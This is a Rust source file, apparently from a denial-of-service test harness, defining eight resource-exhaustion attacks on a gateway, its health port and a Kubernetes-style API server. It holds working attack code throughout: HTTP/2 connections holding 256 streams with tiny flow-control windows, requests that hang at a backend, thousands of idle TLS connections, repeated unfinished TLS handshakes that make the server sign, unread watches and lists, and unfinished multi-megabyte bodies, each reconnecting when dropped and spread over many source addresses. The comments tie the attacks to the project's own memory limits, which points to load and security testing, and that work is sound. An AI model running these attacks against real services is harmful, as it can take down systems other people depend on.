//! The attacks. Each starts its connections from the given sources, keeps them up until it is dropped, and connects again
//! where the server closes. Sizes are those of the first report of each.

use std::net::{Ipv4Addr, SocketAddr};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::sleep;

use crate::good_client::{Victim, connect};
use crate::http2_frames;
use crate::world::World;

pub struct Attack {
    pub name: &'static str,
    pub victim: Victim,
    /// The memory limit of the process in deploy/, or what docs/security.md promises.
    pub memory_mb: u64,
    pub start: fn(&World, &[Ipv4Addr]) -> JoinSet<()>,
}

pub const ATTACKS: &[Attack] = &[
    Attack {
        name: "gateway: 24 x 256 streams, windows opened a little every 4 s",
        victim: Victim::Gateway,
        memory_mb: 512,
        start: slow_windows,
    },
    Attack {
        name: "gateway: 80 x 256 requests that hang at a backend",
        victim: Victim::Gateway,
        memory_mb: 512,
        start: hanging_requests,
    },
    Attack {
        name: "health port: 512 silent connections",
        victim: Victim::GatewayHealth,
        memory_mb: 512,
        start: silent_health,
    },
    Attack {
        name: "API: 4,200 silent TLS connections",
        victim: Victim::Api,
        memory_mb: 512,
        start: silent_tls,
    },
    Attack {
        name: "API: 256 clients that begin TLS handshakes again and again",
        victim: Victim::Api,
        memory_mb: 512,
        start: unfinished_handshakes,
    },
    Attack {
        name: "API: 40 unread watches and lists of 20 MB by the reader",
        victim: Victim::Api,
        memory_mb: 512,
        start: unread_watches,
    },
    Attack {
        name: "API: 400 unfinished bodies of 2.9 MB by the reader",
        victim: Victim::Api,
        memory_mb: 512,
        start: unfinished_bodies,
    },
    Attack {
        name: "API: 64 connections that list 20 MB again and again",
        victim: Victim::Api,
        memory_mb: 512,
        start: endless_lists,
    },
];

/// Pause before a closed connection is opened again.
const AGAIN: Duration = Duration::from_millis(200);

/// Keeps `count` connections busy with `hold`, dealt out over the sources.
fn repeat<F: Future<Output = ()> + Send>(
    count: usize,
    sources: &[Ipv4Addr],
    hold: impl Fn(Ipv4Addr) -> F + Clone + Send + 'static,
) -> JoinSet<()> {
    let mut tasks = JoinSet::new();
    for number in 0..count {
        let (source, hold) = (sources[number % sources.len()], hold.clone());
        tasks.spawn(async move {
            loop {
                hold(source).await;
                sleep(AGAIN).await;
            }
        });
    }
    tasks
}

/// Reads and drops bytes until the server closes.
async fn drain(mut stream: impl tokio::io::AsyncRead + Unpin) {
    let mut buffer = vec![0; 16 << 10];
    while matches!(stream.read(&mut buffer).await, Ok(1..)) {}
}

const STREAMS: u32 = 256;

fn stream_ids() -> impl Iterator<Item = u32> {
    (0..STREAMS).map(|number| 2 * number + 1)
}

/// Opens all streams of a connection.
async fn open_streams(source: Ipv4Addr, to: SocketAddr, window: u32, path: &str) -> Option<TcpStream> {
    let mut stream = connect(source, to).await.ok()?;
    let mut bytes = http2_frames::begin(window);
    stream_ids().for_each(|id| bytes.extend(http2_frames::get(id, path)));
    bytes.extend(http2_frames::settings_ack());
    stream.write_all(&bytes).await.ok()?;
    Some(stream)
}

fn slow_windows(world: &World, sources: &[Ipv4Addr]) -> JoinSet<()> {
    let gateway = world.gateway;
    repeat(24, sources, move |source| async move {
        let Some(stream) = open_streams(source, gateway, 1_024, "/large").await else { return };
        let (reading, mut writing) = stream.into_split();
        let widen = async {
            loop {
                sleep(Duration::from_secs(4)).await;
                let updates: Vec<u8> =
                    stream_ids().flat_map(|id| http2_frames::window_update(id, 1_024)).collect();
                if writing.write_all(&updates).await.is_err() {
                    return;
                }
            }
        };
        tokio::select! {
            biased;
            () = drain(reading) => {}
            () = widen => {}
        }
    })
}

fn hanging_requests(world: &World, sources: &[Ipv4Addr]) -> JoinSet<()> {
    let gateway = world.gateway;
    repeat(80, sources, move |source| async move {
        if let Some(stream) = open_streams(source, gateway, 65_535, "/hang").await {
            drain(stream).await;
        }
    })
}

fn silent_health(world: &World, sources: &[Ipv4Addr]) -> JoinSet<()> {
    let health = world.health(Victim::GatewayHealth);
    repeat(512, sources, move |source| async move {
        if let Ok(stream) = connect(source, health).await {
            drain(stream).await;
        }
    })
}

fn silent_tls(world: &World, sources: &[Ipv4Addr]) -> JoinSet<()> {
    let world = world.clone();
    repeat(4_200, sources, move |source| {
        let world = world.clone();
        async move {
            let Ok(stream) = connect(source, world.api).await else { return };
            if let Ok(stream) = world.tls(stream).await {
                drain(stream).await;
            }
        }
    })
}

/// The server signs for each, and the client computes nothing.
fn unfinished_handshakes(world: &World, sources: &[Ipv4Addr]) -> JoinSet<()> {
    let world = world.clone();
    repeat(256, sources, move |source| {
        let world = world.clone();
        async move {
            while let Ok(mut stream) = connect(source, world.api).await {
                if stream.write_all(&world.client_hello).await.is_err()
                    || !matches!(stream.read(&mut [0]).await, Ok(1))
                {
                    return;
                }
                // Closed with a reset: no port of this machine waits.
                let _ = stream.set_zero_linger();
            }
        }
    })
}

/// A request of the reader whose answer is not read.
async fn unread(world: World, source: Ipv4Addr, path: &str) {
    let Ok(stream) = connect(source, world.api).await else { return };
    let Ok(mut stream) = world.tls(stream).await else { return };
    if stream.write_all(world.as_reader("GET", path, "").as_bytes()).await.is_ok() {
        let _ = stream.flush().await;
        // The server notices by its own time limits only.
        sleep(Duration::from_secs(3_600)).await;
    }
}

fn unread_watches(world: &World, sources: &[Ipv4Addr]) -> JoinSet<()> {
    let world = world.clone();
    repeat(40, sources, move |source| {
        let world = world.clone();
        async move {
            let path = match source.octets()[3] % 2 {
                0 => {
                    "/api/v1/configmaps?watch=1&resourceVersion=0&sendInitialEvents=true&resourceVersionMatch=NotOlderThan"
                }
                _ => "/api/v1/configmaps?watch=1&resourceVersion=0",
            };
            tokio::join!(unread(world.clone(), source, path), unread(world, source, "/api/v1/configmaps"));
        }
    })
}

fn unfinished_bodies(world: &World, sources: &[Ipv4Addr]) -> JoinSet<()> {
    let world = world.clone();
    repeat(400, sources, move |source| {
        let world = world.clone();
        async move {
            let Ok(stream) = connect(source, world.api).await else { return };
            let Ok(mut stream) = world.tls(stream).await else { return };
            let length = "content-type: application/json\r\ncontent-length: 3000000\r\n";
            let head = world.as_reader("POST", "/api/v1/namespaces/default/configmaps", length);
            if stream.write_all(head.as_bytes()).await.is_err() {
                return;
            }
            let chunk = vec![b' '; 100_000];
            for _ in 0..29 {
                if stream.write_all(&chunk).await.is_err() {
                    return;
                }
            }
            drain(stream).await;
        }
    })
}

fn endless_lists(world: &World, sources: &[Ipv4Addr]) -> JoinSet<()> {
    let world = world.clone();
    repeat(64, sources, move |source| {
        let world = world.clone();
        async move {
            let Ok(stream) = connect(source, world.api).await else { return };
            let Ok(mut stream) = world.tls(stream).await else { return };
            let request = world.as_reader("GET", "/api/v1/configmaps", "connection: close\r\n");
            if stream.write_all(request.as_bytes()).await.is_ok() {
                drain(stream).await;
            }
        }
    })
}
